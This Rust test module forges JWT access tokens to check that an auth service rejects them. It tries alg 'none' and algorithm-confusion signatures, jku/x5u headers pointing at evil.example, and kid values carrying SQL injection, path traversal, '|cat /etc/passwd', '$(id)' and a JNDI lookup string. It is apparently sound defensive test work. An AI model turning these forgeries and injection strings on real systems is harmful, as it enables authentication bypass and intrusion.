//! Forged access tokens, made from a genuine one and from keys of all kinds.

use data_encoding::{BASE64, BASE64URL, BASE64URL_NOPAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};
use tests::deployment::{RSA_KEYS, START, unverified};
use tests::{Deployment, Tokens};

use crate::algorithms::{ED25519, P256};

/// A genuine token in parts, and the key that signed it.
pub(super) struct Forger {
    header: Value,
    claims: Value,
    genuine: String,
    ours: EncodingKey,
    jwk: Value,
}

pub(super) type Forged = (String, String);

fn part(json: &Value) -> String {
    BASE64URL_NOPAD.encode(json.to_string().as_bytes())
}

fn sign(message: &str, algorithm: Algorithm, key: &EncodingKey) -> String {
    let signature = jsonwebtoken::crypto::sign(message.as_bytes(), key, algorithm).unwrap();
    format!("{message}.{signature}")
}

/// HMAC pads its key with zeros, so this signs like an empty key. The JWT crate refuses to sign with one.
const EMPTY: &[u8] = &[0];

impl Forger {
    pub(super) async fn of(auth: &Deployment, tokens: &Tokens) -> Forger {
        let (header, claims) = unverified(&tokens.access);
        let ours = EncodingKey::from_rsa_pem(RSA_KEYS[0].as_bytes()).unwrap();
        let jwk = auth.client().get("/.well-known/jwks.json").await.ok()["keys"][0].clone();
        Forger { header, claims, genuine: tokens.access.clone(), ours, jwk }
    }

    /// The genuine content with a new signature by the test.
    pub(super) fn signed_again(&self) -> String {
        sign(&format!("{}.{}", part(&self.header), part(&self.claims)), Algorithm::RS256, &self.ours)
    }

    /// A header with this member, signed by `key`.
    fn header(&self, name: &str, value: Value, algorithm: Algorithm, key: &EncodingKey) -> String {
        let mut header = self.header.clone();
        match value {
            Value::String(gone) if gone == GONE => drop(header.as_object_mut().unwrap().remove(name)),
            value => header[name] = value,
        }
        sign(&format!("{}.{}", part(&header), part(&self.claims)), algorithm, key)
    }

    /// A claim with this value, signed by the real key, so that only the check of the claim can refuse it.
    fn claim(&self, name: &str, value: Value) -> Forged {
        let mut claims = self.claims.clone();
        let told = format!("{name} is {value}");
        match value {
            Value::String(gone) if gone == GONE => drop(claims.as_object_mut().unwrap().remove(name)),
            value => claims[name] = value,
        }
        (told, sign(&format!("{}.{}", part(&self.header), part(&claims)), Algorithm::RS256, &self.ours))
    }

    /// Tokens with another algorithm than the key's, or without one.
    pub(super) fn of_algorithms(&self) -> Vec<Forged> {
        let mut forged = Vec::new();
        for name in [
            json!("none"),
            json!("None"),
            json!("NONE"),
            json!("nOnE"),
            json!(""),
            json!(null),
            json!(0),
            json!(["RS256"]),
        ] {
            let mut header = self.header.clone();
            header["alg"] = name.clone();
            let message = format!("{}.{}", part(&header), part(&self.claims));
            let signature = self.genuine.rsplit_once('.').unwrap().1;
            forged.push((format!("alg {name}, unsigned"), format!("{message}.")));
            forged.push((format!("alg {name}, another's signature"), format!("{message}.{signature}")));
        }
        // Public values used as a shared secret: the key's JWKS text, its modulus and its point. Also an empty secret.
        let public = rcgen::KeyPair::from_pem(RSA_KEYS[0]).unwrap();
        let secrets = [
            ("the public key in PEM", public.public_key_pem().into_bytes()),
            (
                "the public key in DER",
                BASE64
                    .decode(
                        public
                            .public_key_pem()
                            .lines()
                            .filter(|line| !line.starts_with('-'))
                            .collect::<String>()
                            .as_bytes(),
                    )
                    .unwrap(),
            ),
            ("the published key", self.jwk.to_string().into_bytes()),
            ("the modulus", self.jwk["n"].as_str().unwrap().as_bytes().to_vec()),
            ("the key's name", self.jwk["kid"].as_str().unwrap().as_bytes().to_vec()),
            ("nothing", EMPTY.to_vec()),
        ];
        for (told, secret) in secrets {
            let key = EncodingKey::from_secret(&secret).unwrap();
            for (name, algorithm) in [("HS256", Algorithm::HS256), ("HS512", Algorithm::HS512)] {
                forged.push((format!("{name} under {told}"), self.header("alg", json!(name), algorithm, &key)));
            }
        }
        for (name, algorithm) in [("RS384", Algorithm::RS384), ("RS512", Algorithm::RS512), ("PS256", Algorithm::PS256)]
        {
            forged.push((format!("the real key under {name}"), self.header("alg", json!(name), algorithm, &self.ours)));
        }
        let (p256, ed25519) =
            (EncodingKey::from_ec_pem(P256.as_bytes()).unwrap(), EncodingKey::from_ed_pem(ED25519.as_bytes()).unwrap());
        forged.push(("a key of another kind".to_owned(), self.header("alg", json!("ES256"), Algorithm::ES256, &p256)));
        forged
            .push(("a key of a third kind".to_owned(), self.header("alg", json!("EdDSA"), Algorithm::EdDSA, &ed25519)));
        for name in ["rs256", "RS256 ", "RSA", "ES512", "HS1"] {
            forged.push((format!("alg {name}"), self.header("alg", json!(name), Algorithm::RS256, &self.ours)));
        }
        forged
    }

    /// Tokens with a foreign key, and with headers that point to a key.
    pub(super) fn of_keys(&self) -> Vec<Forged> {
        let theirs = EncodingKey::from_rsa_pem(RSA_KEYS[1].as_bytes()).unwrap();
        let mut forged = vec![(
            "a foreign key".to_owned(),
            sign(self.genuine.rsplit_once('.').unwrap().0, Algorithm::RS256, &theirs),
        )];
        let url = json!("https://evil.example/keys");
        let own = json!({ "kty": "RSA", "n": self.jwk["n"], "e": "AQAB", "kid": self.header["kid"], "alg": "RS256" });
        for (name, value) in [
            ("jwk", own),
            ("jku", url.clone()),
            ("x5u", url),
            ("x5c", json!([BASE64.encode(b"x")])),
            ("x5t", json!("AA")),
            ("zip", json!("DEF")),
        ] {
            forged.push((format!("a foreign key by {name}"), self.header(name, value, Algorithm::RS256, &theirs)));
        }
        let kid = self.header["kid"].as_str().unwrap();
        for name in [
            "../../../../dev/null",
            "/dev/null",
            "file:///dev/null",
            "x' UNION SELECT 'secret' --",
            "' OR '1'='1",
            "https://evil.example/key.pem",
            "JWKS",
            "U#1",
            "|cat /etc/passwd",
            "$(id)",
            "${jndi:ldap://evil.example}",
            "",
            "*",
            "\u{0}",
            "0",
            "{\"S\":\"JWKS\"}",
        ] {
            let empty = EncodingKey::from_secret(EMPTY).unwrap();
            forged.push((
                format!("kid {name:?}, the real key"),
                self.header("kid", json!(name), Algorithm::RS256, &self.ours),
            ));
            let mut header = self.header.clone();
            (header["kid"], header["alg"]) = (json!(name), json!("HS256"));
            let message = format!("{}.{}", part(&header), part(&self.claims));
            forged.push((format!("kid {name:?}, an empty secret"), sign(&message, Algorithm::HS256, &empty)));
        }
        for name in [
            json!(GONE),
            json!(null),
            json!(1),
            json!([kid]),
            json!(format!("{kid} ")),
            json!(kid.to_uppercase() + "A"),
            json!("k".repeat(4_000)),
        ] {
            forged.push((
                format!("kid {}", name.to_string().len()),
                self.header("kid", name, Algorithm::RS256, &self.ours),
            ));
        }
        forged
    }

    /// Tokens of another kind, for another recipient, or outside their validity. All are signed by the real key.
    pub(super) fn of_claims(&self) -> Vec<Forged> {
        let mut forged = Vec::new();
        for typ in [
            json!("JWT"),
            json!("at+JWT "),
            json!("id_token+jwt"),
            json!("refresh"),
            json!(null),
            json!(GONE),
            json!(["at+jwt"]),
        ] {
            forged.push((format!("typ {typ}"), self.header("typ", typ, Algorithm::RS256, &self.ours)));
        }
        for crit in [json!(["b64"]), json!(["exp"]), json!([])] {
            forged.push((format!("crit {crit}"), self.header("crit", crit, Algorithm::RS256, &self.ours)));
        }
        for name in ["exp", "nbf", "iat", "auth_time"] {
            for value in [
                json!(GONE),
                json!(null),
                json!(START.to_string()),
                json!(START as f64 + 0.5),
                json!(-1),
                json!(1_u64 << 54),
                json!([START]),
            ] {
                forged.push(self.claim(name, value));
            }
        }
        forged.extend([
            self.claim("exp", json!(START)),
            // Longer than any token of ours.
            self.claim("exp", json!(START + 90 * 86_400)),
            self.claim("exp", json!(0)),
            self.claim("nbf", json!(START + 900)),
            self.claim("iat", json!(START + 900)),
        ]);
        for value in
            [json!(GONE), json!(null), json!("https://evil.example"), json!(["https://evil.example"]), json!("")]
        {
            forged.extend(["iss", "aud", "client_id"].map(|name| self.claim(name, value.clone())));
        }
        let nobody = json!("018f0000-0000-7000-8000-000000000000");
        forged.extend([
            self.claim("token_type", json!("refresh")),
            self.claim("token_type", json!("id")),
            self.claim("token_type", json!(GONE)),
            self.claim("sub", nobody.clone()),
            self.claim("sub", json!(GONE)),
            self.claim("user_id", nobody),
            self.claim("user_id", json!(GONE)),
            self.claim("sid", json!("AAAAAAAAAAAAAAAAAAAAAA")),
            self.claim("sid", json!("../x")),
            self.claim("sid", json!(GONE)),
            self.claim("acr", json!("3f")),
            self.claim("acr", json!(2)),
            self.claim("acr", json!(["2f"])),
            self.claim("amr", json!("otp")),
            self.claim("amr", json!([1])),
            self.claim("jti", json!(GONE)),
        ]);
        forged
    }

    /// Malformed tokens.
    pub(super) fn of_shapes(&self, refresh: &str) -> Vec<Forged> {
        let genuine = &self.genuine;
        let [header, claims, signature]: [&str; 3] = genuine.split('.').collect::<Vec<_>>().try_into().unwrap();
        let padded = |text: &str| BASE64URL.encode(&BASE64URL_NOPAD.decode(text.as_bytes()).unwrap());
        let twice = |members: &str, rest: &Value| {
            let text = rest.to_string();
            BASE64URL_NOPAD.encode(format!("{{{members},{}", &text[1..]).as_bytes())
        };
        let doubled = [
            ("alg twice", twice(r#""alg":"none""#, &self.header), claims.to_owned()),
            ("kid twice", twice(r#""kid":"x""#, &self.header), claims.to_owned()),
            ("a header without an object", BASE64URL_NOPAD.encode(b"[]"), claims.to_owned()),
            ("claims without an object", header.to_owned(), BASE64URL_NOPAD.encode(b"[]")),
            ("claims in invalid JSON", header.to_owned(), BASE64URL_NOPAD.encode(b"x")),
        ];
        let doubled = doubled
            .map(|(told, header, claims)| (told, sign(&format!("{header}.{claims}"), Algorithm::RS256, &self.ours)));
        let mut flipped = BASE64URL_NOPAD.decode(claims.as_bytes()).unwrap();
        flipped[20] ^= 1;
        let shapes = [
            ("a refresh token", refresh.to_owned()),
            ("nothing", String::new()),
            ("dots", "..".to_owned()),
            ("one part", header.to_owned()),
            ("two parts", format!("{header}.{claims}")),
            ("no signature", format!("{header}.{claims}.")),
            ("four parts", format!("{genuine}.{signature}")),
            ("five parts, as of JWE", format!("{header}.{claims}.{signature}.{claims}.{signature}")),
            ("a dot more", format!("{genuine}.")),
            ("a dot before", format!(".{genuine}")),
            ("a tab before", format!("\t{genuine}")),
            ("a space within", format!("{header}. {claims}.{signature}")),
            ("itself twice", format!("{genuine},{genuine}")),
            ("the word Bearer within", format!("Bearer {genuine}")),
            ("a padded header", format!("{}=.{claims}.{signature}", padded(header))),
            ("a padded signature", format!("{header}.{claims}.{}", padded(signature))),
            ("a cut signature", genuine[..genuine.len() - 2].to_owned()),
            ("a longer signature", format!("{genuine}AA")),
            ("a signature of zeros", format!("{header}.{claims}.{}", BASE64URL_NOPAD.encode(&[0; 256]))),
            ("a flipped bit", format!("{header}.{}.{signature}", BASE64URL_NOPAD.encode(&flipped))),
            ("a claim twice", format!("{header}.{}.{signature}", twice(r#""sub":"x""#, &self.claims))),
            ("parts in another order", format!("{claims}.{header}.{signature}")),
            ("nine thousand letters", "A".repeat(9_000)),
            ("nine thousand dots", ".".repeat(9_000)),
            ("a token within a token", format!("{header}.{}.{signature}", BASE64URL_NOPAD.encode(genuine.as_bytes()))),
        ];
        shapes.into_iter().chain(doubled).map(|(told, token)| (told.to_owned(), token)).collect()
    }
}

/// Marks a member as missing instead of giving it a value.
const GONE: &str = "(none)";
